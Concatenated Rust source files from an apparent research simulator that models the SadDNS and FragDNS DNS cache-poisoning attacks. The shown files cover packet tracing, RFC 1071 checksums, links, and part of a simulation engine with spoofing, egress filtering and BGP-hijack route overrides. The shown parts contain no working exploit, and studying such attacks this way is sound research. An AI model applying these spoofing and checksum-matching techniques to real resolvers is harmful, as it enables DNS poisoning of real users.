    pub use crate::frag::{fragment_packet, ReassemblyBuffer, ReassemblyConfig};
    pub use crate::icmp::{IcmpMessage, Unreachable};
    pub use crate::ipv4::{Ipv4Header, Ipv4Packet, Protocol};
    pub use crate::link::Link;
    pub use crate::pmtud::PathMtuCache;
    pub use crate::prefix::Prefix;
    pub use crate::ratelimit::{IcmpRateLimitPolicy, IcmpRateLimiter, ResponseRateLimiter, TokenBucket};
    pub use crate::stack::{HostStack, IpIdPolicy, StackConfig, StackEvent, UdpStack};
    pub use crate::stats::TrafficStats;
    pub use crate::tcp::{TcpConnection, TcpFlags, TcpSegment, TcpSocket, TcpState};
    pub use crate::time::{Duration, SimTime};
    pub use crate::trace::{Trace, TraceEntry};
    pub use crate::transport::{
        with_io, Endpoint, FlowStats, Socket, SocketEvent, StackIo, TcpTransport, Transport, UdpSocket, UdpTransport,
    };
    pub use crate::udp::{UdpDatagram, UdpHeader};
    pub use std::net::Ipv4Addr;
}

pub use prelude::*;
