//! Packet trace recording.
//!
//! Figures 1 and 2 of the paper are message-sequence diagrams of the SadDNS
//! and FragDNS attacks. The trace recorder captures every packet the engine
//! delivers (or drops) with its timestamp and a one-line summary so the
//! example binaries can print those flows, and so tests can assert on the
//! exact sequence of events an attack produced.

use crate::ipv4::Ipv4Packet;
use crate::time::SimTime;
use serde::{Deserialize, Serialize};
use std::fmt;

/// The fate of a traced packet.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum TraceVerdict {
    /// The packet was delivered to its destination node.
    Delivered,
    /// The packet was dropped: no node owns the destination address.
    NoRoute,
    /// The packet was dropped by link loss.
    LinkLoss,
    /// The packet was dropped by egress filtering of a spoofed source.
    EgressFiltered,
    /// The packet exceeded the link MTU with DF set and was dropped
    /// (an ICMP fragmentation-needed error was generated).
    MtuExceeded,
}

impl fmt::Display for TraceVerdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            TraceVerdict::Delivered => "delivered",
            TraceVerdict::NoRoute => "no-route",
            TraceVerdict::LinkLoss => "link-loss",
            TraceVerdict::EgressFiltered => "egress-filtered",
            TraceVerdict::MtuExceeded => "mtu-exceeded",
        };
        f.write_str(s)
    }
}

/// One recorded packet event.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceEntry {
    /// When the packet was processed by the engine.
    pub time: SimTime,
    /// Name of the sending node.
    pub from: String,
    /// Name of the receiving node ("-" when undeliverable).
    pub to: String,
    /// One-line packet summary (protocol, addresses, length, fragment info).
    pub summary: String,
    /// Wire length in bytes.
    pub wire_len: usize,
    /// What happened to the packet.
    pub verdict: TraceVerdict,
}

impl fmt::Display for TraceEntry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {:>16} -> {:<16} [{}] {}", self.time, self.from, self.to, self.verdict, self.summary)
    }
}

/// A bounded in-memory packet trace.
#[derive(Debug, Clone, Default)]
pub struct Trace {
    entries: Vec<TraceEntry>,
    /// Maximum number of retained entries (0 = unbounded). When the bound is
    /// hit the oldest entries are discarded and counted in
    /// [`dropped`](Trace::dropped).
    pub capacity: usize,
    /// Whether recording is enabled. Large measurement campaigns disable the
    /// trace to save memory.
    pub enabled: bool,
    /// Entries discarded at the capacity bound.
    dropped: u64,
}

impl Trace {
    /// An enabled, unbounded trace.
    pub fn new() -> Self {
        Trace { entries: Vec::new(), capacity: 0, enabled: true, dropped: 0 }
    }

    /// A disabled trace (records nothing).
    pub fn disabled() -> Self {
        Trace { entries: Vec::new(), capacity: 0, enabled: false, dropped: 0 }
    }

    /// Records one entry (if enabled).
    pub fn record(&mut self, entry: TraceEntry) {
        if !self.enabled {
            return;
        }
        if self.capacity > 0 && self.entries.len() >= self.capacity {
            let overflow = self.entries.len() + 1 - self.capacity;
            self.entries.drain(..overflow);
            self.dropped += overflow as u64;
        }
        self.entries.push(entry);
    }

    /// Convenience: record a packet with names and verdict.
    pub fn record_packet(&mut self, time: SimTime, from: &str, to: &str, pkt: &Ipv4Packet, verdict: TraceVerdict) {
        if !self.enabled {
            return;
        }
        self.record(TraceEntry {
            time,
            from: from.to_string(),
            to: to.to_string(),
            summary: pkt.summary(),
            wire_len: pkt.wire_len(),
            verdict,
        });
    }

    /// All recorded entries, oldest first.
    pub fn entries(&self) -> &[TraceEntry] {
        &self.entries
    }

    /// Number of recorded entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether nothing has been recorded.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Entries discarded because the capacity bound was hit. A bounded trace
    /// that silently truncated used to read as "the run produced this few
    /// packets"; the count makes the elision visible.
    pub fn dropped(&self) -> u64 {
        self.dropped
    }

    /// Drops all recorded entries and resets the drop counter.
    pub fn clear(&mut self) {
        self.entries.clear();
        self.dropped = 0;
    }

    /// Renders the trace as a multi-line string (one line per packet),
    /// suitable for printing a message-sequence view of an attack. When the
    /// capacity bound discarded older entries, a trailing summary line says
    /// how many are missing.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for e in &self.entries {
            out.push_str(&e.to_string());
            out.push('\n');
        }
        if self.dropped > 0 {
            out.push_str(&format!(
                "({} older entries dropped at the {}-entry capacity)\n",
                self.dropped, self.capacity
            ));
        }
        out
    }

    /// Entries whose summary contains `needle` — handy in tests
    /// ("how many spoofed responses reached the resolver?").
    pub fn matching(&self, needle: &str) -> Vec<&TraceEntry> {
        self.entries.iter().filter(|e| e.summary.contains(needle)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::udp::UdpDatagram;

    fn entry(i: u64) -> TraceEntry {
        TraceEntry {
            time: SimTime::from_nanos(i),
            from: "a".into(),
            to: "b".into(),
            summary: format!("pkt {i}"),
            wire_len: 100,
            verdict: TraceVerdict::Delivered,
        }
    }

    #[test]
    fn records_and_renders() {
        let mut t = Trace::new();
        t.record(entry(1));
        t.record(entry(2));
        assert_eq!(t.len(), 2);
        let rendered = t.render();
        assert!(rendered.contains("pkt 1"));
        assert!(rendered.contains("delivered"));
    }

    #[test]
    fn capacity_bounds_trace_and_counts_drops() {
        let mut t = Trace::new();
        t.capacity = 3;
        for i in 0..10 {
            t.record(entry(i));
        }
        assert_eq!(t.len(), 3);
        assert_eq!(t.entries()[0].summary, "pkt 7");
        assert_eq!(t.dropped(), 7);
        let rendered = t.render();
        assert!(rendered.ends_with("(7 older entries dropped at the 3-entry capacity)\n"));
    }

    #[test]
    fn unbounded_trace_never_drops() {
        let mut t = Trace::new();
        for i in 0..100 {
            t.record(entry(i));
        }
        assert_eq!(t.dropped(), 0);
        assert!(!t.render().contains("dropped"));
    }

    #[test]
    fn disabled_trace_records_nothing() {
        let mut t = Trace::disabled();
        t.record(entry(1));
        assert!(t.is_empty());
    }

    #[test]
    fn record_packet_uses_summary() {
        let mut t = Trace::new();
        let pkt =
            UdpDatagram::new("10.0.0.1".parse().unwrap(), "10.0.0.2".parse().unwrap(), 1, 2, vec![]).into_packet(1, 64);
        t.record_packet(SimTime::ZERO, "x", "y", &pkt, TraceVerdict::NoRoute);
        assert_eq!(t.len(), 1);
        assert!(t.entries()[0].summary.contains("UDP"));
        assert_eq!(t.matching("UDP").len(), 1);
        assert_eq!(t.matching("ICMP").len(), 0);
    }

    #[test]
    fn clear_resets() {
        let mut t = Trace::new();
        t.capacity = 1;
        t.record(entry(1));
        t.record(entry(2));
        assert_eq!(t.dropped(), 1);
        t.clear();
        assert!(t.is_empty());
        assert_eq!(t.dropped(), 0);
    }
}
