//! The Internet checksum (RFC 1071) used by IPv4, UDP and ICMP.
//!
//! The FragDNS methodology depends on the attacker's spoofed second fragment
//! reassembling into a datagram whose **UDP checksum still verifies** at the
//! victim resolver; the checksum arithmetic here is therefore implemented
//! exactly (one's-complement sum over 16-bit words) so the attack code can
//! compute the compensation words the same way a real exploit would.

/// Running one's-complement sum used to compute RFC 1071 checksums over
/// multiple buffers (e.g. a pseudo-header followed by a payload).
///
/// Bytes are summed in 8-byte machine words (RFC 1071 §2's "sum in larger
/// units" trick): each chunk contributes its two 32-bit halves to a 64-bit
/// accumulator, and all carries are folded once at [`finish`](Self::finish).
/// A 64-bit accumulator absorbs over 2³² halves before it could wrap, far
/// beyond any 64 KiB datagram.
///
/// Feeding is byte-exact across calls: an odd-length `add_bytes` leaves the
/// accumulator mid-word, and the next `add_bytes` completes that word, so
/// chunked feeding at *any* split point equals a single-shot sum over the
/// concatenated bytes. [`add_u16`](Self::add_u16)/[`add_u32`](Self::add_u32)
/// feed word-aligned values regardless of the current byte phase (one's
/// complement addition is commutative, so an aligned word can join the sum
/// at any point).
#[derive(Debug, Clone, Copy, Default)]
pub struct Checksum {
    sum: u64,
    /// Set when an odd number of bytes have been fed: the last byte occupies
    /// the high half of a pending 16-bit word awaiting its low byte.
    odd: bool,
}

impl Checksum {
    /// Creates an empty accumulator.
    pub fn new() -> Self {
        Self::default()
    }

    /// Feeds a byte slice into the accumulator. A trailing odd byte is held
    /// as the high half of a pending word: completed by the next `add_bytes`
    /// call, or zero-padded at `finish` as required by RFC 1071.
    pub fn add_bytes(&mut self, data: &[u8]) -> &mut Self {
        let mut data = data;
        if self.odd {
            let Some((&first, rest)) = data.split_first() else {
                return self;
            };
            // Complete the pending word: its high byte was added as `b << 8`,
            // so the low byte joins unshifted.
            self.sum += u64::from(first);
            self.odd = false;
            data = rest;
        }
        let mut wide = data.chunks_exact(8);
        for chunk in &mut wide {
            let v = u64::from_be_bytes(chunk.try_into().expect("8-byte chunk"));
            // Two 32-bit halves, each a pair of big-endian 16-bit words;
            // carries accumulate in the upper bits and fold at `finish`.
            self.sum += (v >> 32) + (v & 0xffff_ffff);
        }
        let mut rest = wide.remainder();
        if rest.len() >= 4 {
            let v = u32::from_be_bytes(rest[..4].try_into().expect("4-byte chunk"));
            self.sum += u64::from(v);
            rest = &rest[4..];
        }
        if rest.len() >= 2 {
            self.sum += u64::from(u16::from_be_bytes([rest[0], rest[1]]));
            rest = &rest[2..];
        }
        if let Some(&last) = rest.first() {
            self.sum += u64::from(last) << 8;
            self.odd = true;
        }
        self
    }

    /// Feeds a single big-endian 16-bit word (always word-aligned,
    /// independent of the current byte phase).
    pub fn add_u16(&mut self, word: u16) -> &mut Self {
        self.sum += u64::from(word);
        self
    }

    /// Feeds a 32-bit value as two 16-bit words (e.g. an IPv4 address).
    pub fn add_u32(&mut self, value: u32) -> &mut Self {
        self.sum += u64::from(value >> 16) + u64::from(value & 0xffff);
        self
    }

    /// Finalises the checksum: folds carries and takes the one's complement.
    pub fn finish(self) -> u16 {
        let mut sum = self.sum;
        while sum >> 16 != 0 {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        !(sum as u16)
    }

    /// Returns the folded sum *without* complementing — useful for verifying
    /// a buffer that already contains its checksum (result must be `0xffff`).
    pub fn folded(self) -> u16 {
        !self.finish()
    }
}

/// Computes the RFC 1071 checksum of a single buffer.
pub fn checksum(data: &[u8]) -> u16 {
    let mut c = Checksum::new();
    c.add_bytes(data);
    c.finish()
}

/// Verifies a buffer whose checksum field is already filled in: the folded
/// one's-complement sum of the whole buffer must be `0xffff`.
pub fn verify(data: &[u8]) -> bool {
    let mut c = Checksum::new();
    c.add_bytes(data);
    c.folded() == 0xffff
}

/// Computes the UDP/TCP pseudo-header checksum contribution for IPv4.
pub fn pseudo_header(src: std::net::Ipv4Addr, dst: std::net::Ipv4Addr, protocol: u8, length: u16) -> Checksum {
    let mut c = Checksum::new();
    c.add_u32(u32::from(src));
    c.add_u32(u32::from(dst));
    c.add_u16(u16::from(protocol));
    c.add_u16(length);
    c
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc1071_reference_vector() {
        // Example from RFC 1071 section 3: bytes 00 01 f2 03 f4 f5 f6 f7
        // have a sum of 0xddf2, so the checksum is !0xddf2 = 0x220d.
        let data = [0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        assert_eq!(checksum(&data), !0xddf2);
    }

    #[test]
    fn odd_length_is_padded() {
        let even = checksum(&[0x12, 0x34, 0x56, 0x00]);
        let odd = checksum(&[0x12, 0x34, 0x56]);
        assert_eq!(even, odd);
    }

    #[test]
    fn verify_roundtrip() {
        let mut data = vec![0xde, 0xad, 0xbe, 0xef, 0x00, 0x00, 0x12, 0x34];
        // Place checksum in bytes 4..6.
        let ck = checksum(&data);
        data[4] = (ck >> 8) as u8;
        data[5] = (ck & 0xff) as u8;
        assert!(verify(&data));
        data[7] ^= 1;
        assert!(!verify(&data));
    }

    #[test]
    fn zero_buffer_checksum() {
        assert_eq!(checksum(&[]), 0xffff);
        assert_eq!(checksum(&[0, 0, 0, 0]), 0xffff);
    }

    #[test]
    fn incremental_equals_single_shot() {
        // Chunked feeding equals the single-shot sum at EVERY split point —
        // including odd offsets, where the accumulator carries a half-filled
        // word across the call boundary.
        let data = b"the quick brown fox jumps over the lazy dog";
        let single = checksum(data);
        for split in 0..=data.len() {
            let mut c = Checksum::new();
            c.add_bytes(&data[..split]);
            c.add_bytes(&data[split..]);
            assert_eq!(c.finish(), single, "split at {split}");
        }
    }

    #[test]
    fn three_way_odd_splits_equal_single_shot() {
        let data: Vec<u8> = (0u8..=50).collect();
        let single = checksum(&data);
        for a in [1usize, 3, 5, 7, 9, 11] {
            for b in [13usize, 17, 23, 29, 41] {
                let mut c = Checksum::new();
                c.add_bytes(&data[..a]);
                c.add_bytes(&data[a..b]);
                c.add_bytes(&data[b..]);
                assert_eq!(c.finish(), single, "splits at {a}/{b}");
            }
        }
    }

    #[test]
    fn empty_adds_preserve_the_pending_odd_byte() {
        let mut c = Checksum::new();
        c.add_bytes(&[0x01, 0x02, 0x03]);
        c.add_bytes(&[]);
        c.add_bytes(&[]);
        // Pending byte 0x03 is still open: 0x04 completes the word 0x0304.
        c.add_bytes(&[0x04]);
        assert_eq!(c.finish(), checksum(&[0x01, 0x02, 0x03, 0x04]));
    }

    #[test]
    fn wide_word_matches_scalar_reference_on_long_buffers() {
        // Exercise every remainder class of the 8-byte main loop against the
        // definitional word-at-a-time sum.
        for len in 0..64usize {
            let data: Vec<u8> = (0..len as u32).map(|i| (i.wrapping_mul(0x9e37) >> 3) as u8).collect();
            let mut reference: u32 = 0;
            let mut words = data.chunks_exact(2);
            for w in &mut words {
                reference += u32::from(u16::from_be_bytes([w[0], w[1]]));
            }
            if let Some(&last) = words.remainder().first() {
                reference += u32::from(u16::from_be_bytes([last, 0]));
            }
            while reference >> 16 != 0 {
                reference = (reference & 0xffff) + (reference >> 16);
            }
            assert_eq!(checksum(&data), !(reference as u16), "len {len}");
        }
    }

    #[test]
    fn ipv4_header_known_vector() {
        // Classic textbook IPv4 header (20 bytes, checksum field zeroed):
        // 4500 0073 0000 4000 4011 ---- c0a8 0001 c0a8 00c7 → 0xb861.
        let header = [
            0x45, 0x00, 0x00, 0x73, 0x00, 0x00, 0x40, 0x00, 0x40, 0x11, 0x00, 0x00, 0xc0, 0xa8, 0x00, 0x01, 0xc0, 0xa8,
            0x00, 0xc7,
        ];
        assert_eq!(checksum(&header), 0xb861);
        let mut with_ck = header;
        with_ck[10] = 0xb8;
        with_ck[11] = 0x61;
        assert!(verify(&with_ck));
    }

    #[test]
    fn hand_computed_odd_length_vector() {
        // Words 0x0102 and 0x0300 (last byte zero-padded) sum to 0x0402,
        // so the checksum is !0x0402 = 0xfbfd.
        assert_eq!(checksum(&[0x01, 0x02, 0x03]), 0xfbfd);
    }

    #[test]
    fn carry_folding_vector() {
        // 0xffff + 0x0001 overflows 16 bits: the carry folds back in,
        // giving a sum of 0x0001 and a checksum of 0xfffe.
        assert_eq!(checksum(&[0xff, 0xff, 0x00, 0x01]), 0xfffe);
    }

    #[test]
    fn udp_pseudo_header_known_vector() {
        // UDP datagram 192.0.2.1:1000 -> 198.51.100.2:53 carrying "abcd"
        // (UDP length 12). Folding pseudo-header, UDP header (checksum
        // field zero) and payload by hand gives a sum of 0xb544, so the
        // transmitted checksum is !0xb544 = 0x4abb.
        let src: std::net::Ipv4Addr = "192.0.2.1".parse().unwrap();
        let dst: std::net::Ipv4Addr = "198.51.100.2".parse().unwrap();
        let mut c = pseudo_header(src, dst, 17, 12);
        c.add_u16(1000).add_u16(53).add_u16(12).add_u16(0);
        c.add_bytes(b"abcd");
        assert_eq!(c.finish(), 0x4abb);
    }

    #[test]
    fn tcp_pseudo_header_known_vector() {
        // TCP SYN 192.0.2.1:1000 -> 198.51.100.2:53, seq 1, ack 0, data
        // offset 5, window 0xffff (protocol 6, TCP length 20). Folding by
        // hand: c000+0201+c633+6402+0006+0014 (pseudo) + 03e8+0035+0000+
        // 0001+0000+0000+5002+ffff+0000+0000 (header) = 0x3406f; folded
        // 0x4072, so the transmitted checksum is !0x4072 = 0xbf8d. Unlike
        // UDP, a computed 0x0000 would be transmitted verbatim (RFC 793 has
        // no zero-means-absent rule).
        let src: std::net::Ipv4Addr = "192.0.2.1".parse().unwrap();
        let dst: std::net::Ipv4Addr = "198.51.100.2".parse().unwrap();
        let mut c = pseudo_header(src, dst, 6, 20);
        c.add_u16(1000).add_u16(53); // ports
        c.add_u32(1).add_u32(0); // seq, ack
        c.add_u16(0x5002).add_u16(0xffff); // offset/flags (SYN), window
        c.add_u16(0).add_u16(0); // checksum placeholder, urgent
        assert_eq!(c.finish(), 0xbf8d);
    }

    #[test]
    fn pseudo_header_contribution() {
        let src: std::net::Ipv4Addr = "192.0.2.1".parse().unwrap();
        let dst: std::net::Ipv4Addr = "198.51.100.2".parse().unwrap();
        let mut c = pseudo_header(src, dst, 17, 12);
        c.add_bytes(&[0u8; 12]);
        // Deterministic value; recomputing must agree.
        let mut c2 = pseudo_header(src, dst, 17, 12);
        c2.add_bytes(&[0u8; 12]);
        assert_eq!(c.finish(), c2.finish());
    }
}
