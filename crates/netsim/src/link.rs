//! Point-to-point link properties.
//!
//! Links carry latency (which creates the race window between the attacker's
//! spoofed responses and the genuine nameserver response), an MTU (which
//! routers enforce, generating ICMP fragmentation-needed errors or
//! fragmenting in transit) and an optional loss probability for
//! fault-injection experiments.

use crate::ipv4::DEFAULT_MTU;
use crate::time::Duration;
use serde::{Deserialize, Serialize};

/// Properties of a directed or undirected link between two nodes.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Link {
    /// One-way propagation delay.
    pub latency: Duration,
    /// Maximum transmission unit enforced on this link.
    pub mtu: u16,
    /// Probability in `[0, 1]` that a packet is silently dropped.
    pub loss: f64,
    /// Whether a router on this link fragments oversized packets without the
    /// DF bit (true), or drops them (false). Packets with DF set always
    /// trigger an ICMP fragmentation-needed error instead.
    pub fragment_in_transit: bool,
}

impl Link {
    /// A loss-free Ethernet-MTU link with the given latency.
    pub fn with_latency(latency: Duration) -> Self {
        Link { latency, ..Default::default() }
    }

    /// Sets the MTU.
    pub fn mtu(mut self, mtu: u16) -> Self {
        self.mtu = mtu;
        self
    }

    /// Sets the loss probability.
    pub fn loss(mut self, loss: f64) -> Self {
        self.loss = loss.clamp(0.0, 1.0);
        self
    }

    /// Sets whether oversized DF-less packets are fragmented in transit.
    pub fn fragmenting(mut self, fragment: bool) -> Self {
        self.fragment_in_transit = fragment;
        self
    }
}

impl Default for Link {
    fn default() -> Self {
        Link { latency: Duration::from_millis(10), mtu: DEFAULT_MTU, loss: 0.0, fragment_in_transit: true }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builder_methods() {
        let l = Link::with_latency(Duration::from_millis(25)).mtu(576).loss(0.1).fragmenting(false);
        assert_eq!(l.latency, Duration::from_millis(25));
        assert_eq!(l.mtu, 576);
        assert!((l.loss - 0.1).abs() < 1e-9);
        assert!(!l.fragment_in_transit);
    }

    #[test]
    fn loss_is_clamped() {
        assert_eq!(Link::default().loss(7.0).loss, 1.0);
        assert_eq!(Link::default().loss(-1.0).loss, 0.0);
    }

    #[test]
    fn default_is_ethernet_like() {
        let l = Link::default();
        assert_eq!(l.mtu, DEFAULT_MTU);
        assert_eq!(l.loss, 0.0);
        assert!(l.fragment_in_transit);
    }
}
