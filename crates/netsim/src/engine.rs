//! The discrete-event simulation engine.
//!
//! The engine owns all simulated hosts ([`Node`] implementations), delivers
//! IPv4 packets between them over [`Link`]s, enforces **egress filtering** of
//! spoofed source addresses, honours **route overrides** (the data-plane
//! effect of a successful BGP prefix hijack: traffic for a prefix is handed
//! to the hijacker instead of the legitimate owner), performs router-side MTU
//! handling (ICMP fragmentation-needed or in-transit fragmentation), records
//! a packet [`Trace`] and keeps per-node [`TrafficStats`].
//!
//! Determinism: all randomness is drawn from a single seeded ChaCha20 RNG and
//! ties between simultaneous events are broken by insertion order, so a given
//! seed always reproduces the same packet interleaving.

use crate::ipv4::{Ipv4Packet, Protocol};
use crate::link::Link;
use crate::prefix::Prefix;
use crate::stats::TrafficStats;
use crate::time::{Duration, SimTime};
use crate::trace::{Trace, TraceVerdict};
use crate::{frag, icmp::IcmpMessage};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use std::any::Any;
use std::cmp::Reverse;
use std::collections::{BinaryHeap, HashMap};
use std::net::Ipv4Addr;

/// Identifier of a node registered with a [`Simulator`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct NodeId(pub usize);

/// Object-safe downcasting support, blanket-implemented for every node type.
pub trait AsAny {
    /// `&self` as `&dyn Any`.
    fn as_any(&self) -> &dyn Any;
    /// `&mut self` as `&mut dyn Any`.
    fn as_any_mut(&mut self) -> &mut dyn Any;
}

impl<T: Any> AsAny for T {
    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// A simulated host (or middlebox, or attacker machine).
///
/// Nodes react to delivered packets and to timers they scheduled earlier; all
/// side effects (sending packets, scheduling more timers) go through the
/// [`Ctx`] handed to each callback.
pub trait Node: AsAny + 'static {
    /// Called when a packet addressed (or routed) to this node is delivered.
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet);

    /// Called when a timer previously scheduled via [`Ctx::set_timer`] fires.
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        let _ = (ctx, token);
    }

    /// Called once when the simulation starts (before any packet delivery),
    /// allowing nodes to arm initial timers.
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        let _ = ctx;
    }
}

/// Side-effect collector handed to [`Node`] callbacks.
pub struct Ctx<'a> {
    now: SimTime,
    self_id: NodeId,
    addrs: &'a [Ipv4Addr],
    rng: &'a mut ChaCha20Rng,
    outgoing: Vec<Ipv4Packet>,
    timers: Vec<(Duration, u64)>,
}

impl<'a> Ctx<'a> {
    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// The node's own identifier.
    pub fn self_id(&self) -> NodeId {
        self.self_id
    }

    /// Addresses owned by this node.
    pub fn addrs(&self) -> &[Ipv4Addr] {
        self.addrs
    }

    /// The node's primary address.
    pub fn primary_addr(&self) -> Ipv4Addr {
        self.addrs.first().copied().unwrap_or(Ipv4Addr::UNSPECIFIED)
    }

    /// Queues a packet for transmission from this node.
    ///
    /// Spoofed source addresses are permitted here; whether they survive
    /// depends on the node's egress-filtering setting in the engine.
    pub fn send(&mut self, pkt: Ipv4Packet) {
        self.outgoing.push(pkt);
    }

    /// Schedules a timer `delay` from now with an opaque token.
    pub fn set_timer(&mut self, delay: Duration, token: u64) {
        self.timers.push((delay, token));
    }

    /// Deterministic per-simulation RNG.
    pub fn rng(&mut self) -> &mut ChaCha20Rng {
        self.rng
    }
}

/// A trivial node that answers ICMP echo requests and otherwise ignores
/// traffic. Useful as a placeholder destination in examples and tests.
#[derive(Debug, Default)]
pub struct EchoNode {
    /// Number of UDP datagrams this node has seen.
    pub udp_seen: u64,
    /// Number of echo requests answered.
    pub pings_answered: u64,
}

impl Node for EchoNode {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
        match pkt.header.protocol {
            Protocol::Udp => self.udp_seen += 1,
            Protocol::Icmp => {
                if let Ok(IcmpMessage::EchoRequest { id, seq, payload }) = IcmpMessage::decode(&pkt.payload) {
                    self.pings_answered += 1;
                    let reply = IcmpMessage::EchoReply { id, seq, payload }.into_packet(
                        pkt.header.dst,
                        pkt.header.src,
                        ctx.rng().gen(),
                        64,
                    );
                    ctx.send(reply);
                }
            }
            _ => {}
        }
    }
}

/// A node that swallows every packet (a blackhole).
#[derive(Debug, Default)]
pub struct SinkNode {
    /// Packets swallowed.
    pub received: u64,
}

impl Node for SinkNode {
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: Ipv4Packet) {
        self.received += 1;
    }
}

struct NodeSlot {
    name: String,
    node: Box<dyn Node>,
    addrs: Vec<Ipv4Addr>,
    egress_filtering: bool,
    stats: TrafficStats,
}

#[derive(Debug)]
enum EventKind {
    Deliver { to: NodeId, from_name: String, pkt: Ipv4Packet },
    Timer { node: NodeId, token: u64 },
}

struct Event {
    time: SimTime,
    seq: u64,
    kind: EventKind,
}

impl PartialEq for Event {
    fn eq(&self, other: &Self) -> bool {
        self.time == other.time && self.seq == other.seq
    }
}
impl Eq for Event {}
impl PartialOrd for Event {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl Ord for Event {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.time, self.seq).cmp(&(other.time, other.seq))
    }
}

/// The simulation engine. See the [module documentation](self) for an overview.
pub struct Simulator {
    nodes: Vec<NodeSlot>,
    addr_map: HashMap<Ipv4Addr, NodeId>,
    route_overrides: Vec<(Prefix, NodeId)>,
    links: HashMap<(NodeId, NodeId), Link>,
    default_link: Link,
    events: BinaryHeap<Reverse<Event>>,
    now: SimTime,
    seq: u64,
    rng: ChaCha20Rng,
    trace: Trace,
    started: bool,
}

impl Simulator {
    /// Creates an empty simulator with a deterministic seed.
    pub fn new(seed: u64) -> Self {
        Simulator {
            nodes: Vec::new(),
            addr_map: HashMap::new(),
            route_overrides: Vec::new(),
            links: HashMap::new(),
            default_link: Link::default(),
            events: BinaryHeap::new(),
            now: SimTime::ZERO,
            seq: 0,
            rng: ChaCha20Rng::seed_from_u64(seed),
            trace: Trace::new(),
            started: false,
        }
    }

    /// Registers a node owning the given addresses. Egress filtering is
    /// disabled by default (the attacker model assumes a non-filtering
    /// network; victims can enable it via [`Simulator::set_egress_filtering`]).
    pub fn add_node(&mut self, name: &str, addrs: Vec<Ipv4Addr>, node: impl Node) -> NodeId {
        let id = NodeId(self.nodes.len());
        for &a in &addrs {
            self.addr_map.insert(a, id);
        }
        self.nodes.push(NodeSlot {
            name: name.to_string(),
            node: Box::new(node),
            addrs,
            egress_filtering: false,
            stats: TrafficStats::default(),
        });
        id
    }

    /// Enables or disables egress filtering (BCP 38) for a node: when enabled,
    /// packets whose source address the node does not own are dropped.
    pub fn set_egress_filtering(&mut self, id: NodeId, enabled: bool) {
        self.nodes[id.0].egress_filtering = enabled;
    }

    /// Sets the default link used between nodes with no explicit link.
    pub fn set_default_link(&mut self, link: Link) {
        self.default_link = link;
    }

    /// Installs a (bidirectional) link between two nodes.
    pub fn connect(&mut self, a: NodeId, b: NodeId, link: Link) {
        self.links.insert((a, b), link);
        self.links.insert((b, a), link);
    }

    /// Installs an asymmetric link from `a` to `b` only.
    pub fn connect_directed(&mut self, a: NodeId, b: NodeId, link: Link) {
        self.links.insert((a, b), link);
    }

    /// Installs a data-plane route override: traffic destined to `prefix` is
    /// delivered to `node` regardless of address ownership. This is how a
    /// successful BGP (sub-)prefix hijack manifests to the hosts. More
    /// specific prefixes win; equal-length prefixes favour the most recently
    /// installed override.
    pub fn set_route_override(&mut self, prefix: Prefix, node: NodeId) {
        self.route_overrides.push((prefix, node));
    }

    /// Removes all route overrides covering the given prefix exactly.
    pub fn clear_route_override(&mut self, prefix: Prefix) {
        self.route_overrides.retain(|(p, _)| *p != prefix);
    }

    /// Removes every route override (hijack withdrawn).
    pub fn clear_all_route_overrides(&mut self) {
        self.route_overrides.clear();
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// The name a node was registered with.
    pub fn node_name(&self, id: NodeId) -> &str {
        &self.nodes[id.0].name
    }

    /// Number of registered nodes.
    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }

    /// Traffic counters of a node.
    pub fn stats(&self, id: NodeId) -> &TrafficStats {
        &self.nodes[id.0].stats
    }

    /// The packet trace.
    pub fn trace(&self) -> &Trace {
        &self.trace
    }

    /// Mutable access to the packet trace (e.g. to disable or clear it).
    pub fn trace_mut(&mut self) -> &mut Trace {
        &mut self.trace
    }

    /// Typed shared access to a node.
    pub fn node_ref<T: Node>(&self, id: NodeId) -> Option<&T> {
        // Go through `as_ref()` so the blanket `AsAny` impl resolves on the
        // concrete node type rather than on the `Box<dyn Node>` wrapper.
        self.nodes[id.0].node.as_ref().as_any().downcast_ref::<T>()
    }

    /// Typed exclusive access to a node.
    pub fn node_mut<T: Node>(&mut self, id: NodeId) -> Option<&mut T> {
        self.nodes[id.0].node.as_mut().as_any_mut().downcast_mut::<T>()
    }

    /// Which node currently receives traffic for `addr`, considering route
    /// overrides first and address ownership second.
    pub fn route_lookup(&self, addr: Ipv4Addr) -> Option<NodeId> {
        let mut best: Option<(u8, usize, NodeId)> = None;
        for (idx, (prefix, node)) in self.route_overrides.iter().enumerate() {
            if prefix.contains(addr) {
                let candidate = (prefix.len, idx, *node);
                if best.is_none_or(|b| (candidate.0, candidate.1) >= (b.0, b.1)) {
                    best = Some(candidate);
                }
            }
        }
